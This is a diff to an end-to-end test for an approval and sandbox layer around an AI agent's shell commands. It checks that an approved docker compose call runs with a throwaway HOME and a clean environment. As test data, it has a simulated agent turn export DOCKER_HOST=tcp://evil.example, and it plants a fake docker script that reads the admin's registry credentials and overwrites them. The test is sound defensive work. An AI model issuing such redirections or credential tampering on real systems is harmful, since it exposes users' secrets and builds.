@@ -1,5 +1,5 @@
 import { existsSync } from "node:fs";
-import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { conversationEndpoints } from "@/contracts/conversations";
@@ -12,15 +12,22 @@ import { submitTurnIn, waitForEnd } from "./submit-requests";
 const program = "/usr/local/sbin/docker";
 const mayPutProgram = process.getuid?.() === 0 && !existsSync(program);
 
+/** The folder that an admin fills: the HOME of calls outside the sandbox is a copy of it. */
+const outsideHome = path.join(process.env.HANDRAIL_E2E_DATA_DIR ?? "", "outside-home");
+const registrySettings = path.join(outsideHome, ".docker/config.json");
+
 let folder = "";
 test.beforeAll(async () => {
   folder = await mkdtemp(path.join(tmpdir(), "handrail-docker-"));
   if (!mayPutProgram) return;
-  await writeFile(program, `#!/bin/sh\n{ echo "docker $*"; cat compose.yaml; env; } > ${folder}/record\necho started\n`);
+  await mkdir(path.dirname(registrySettings), { recursive: true });
+  await writeFile(registrySettings, '{"credsStore":"of the admin"}');
+  const record = `{ echo "docker $*"; cat compose.yaml "$HOME/.docker/config.json"; echo; env; } > ${folder}/record`;
+  await writeFile(program, `#!/bin/sh\n${record}\necho forged > "$HOME/.docker/config.json"\necho started\n`);
   await chmod(program, 0o755);
 });
 test.afterAll(async () => {
-  if (mayPutProgram) await rm(program, { force: true });
+  if (mayPutProgram) await Promise.all([program, path.dirname(registrySettings)].map((file) => rm(file, { recursive: true, force: true })));
   await rm(folder, { recursive: true, force: true });
 });
 
@@ -29,6 +36,7 @@ test("a compose file and its script change while docker compose up waits: Approv
   api,
 }) => {
   const { id } = await api.agent.call(conversationEndpoints.create, { body: {} });
+  await submitTurnIn(api.agent, id, [{ name: "shell_execute", arguments: { command: "export DOCKER_HOST=tcp://evil.example" } }]);
   const shell = (command: string) => submitTurnIn(api.agent, id, [{ name: "shell_execute", arguments: { command } }]);
   const compose = (image: string) =>
     `printf 'services:\\n  web:\\n    image: ${image}\\n    volumes: ["./start.sh:/start.sh"]\\n' > compose.yaml`;
@@ -41,6 +49,7 @@ test("a compose file and its script change while docker compose up waits: Approv
   const files = detail.getByRole("list", { name: "Files of this call" });
   await expect(files).toContainText("is configured by compose.yaml");
   await expect(files).toContainText("which names start.sh");
+  if (mayPutProgram) await expect(detail.getByText(outsideHome).first()).toBeVisible();
   await checkPage(page, "an approval that holds for files");
 
   expect((await shell(`${compose("evil")} && echo 'echo two' > start.sh`)).calls[0]?.status).toBe("succeeded");
@@ -62,4 +71,12 @@ test("a compose file and its script change while docker compose up waits: Approv
   const record = await readFile(path.join(folder, "record"), "utf8");
   expect(record).toContain("docker compose up -d");
   expect(record).toContain("image: evil");
+  // The environment of the approved call: the admin's HOME as a copy, the system's PATH, and nothing that the conversation exported.
+  expect(record).toContain('{"credsStore":"of the admin"}');
+  const variables = new Map(record.split("\n").map((line) => [line.split("=", 1)[0], line.slice(line.indexOf("=") + 1)]));
+  expect(variables.get("HOME")).toMatch(/^\/.*\/handrail-home-[^/]+$/);
+  expect(variables.get("PATH")).toBe("/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin");
+  expect(variables.has("DOCKER_HOST")).toBe(false);
+  await expect.poll(() => existsSync(variables.get("HOME") ?? "")).toBe(false);
+  expect(await readFile(registrySettings, "utf8")).toBe('{"credsStore":"of the admin"}');
 });
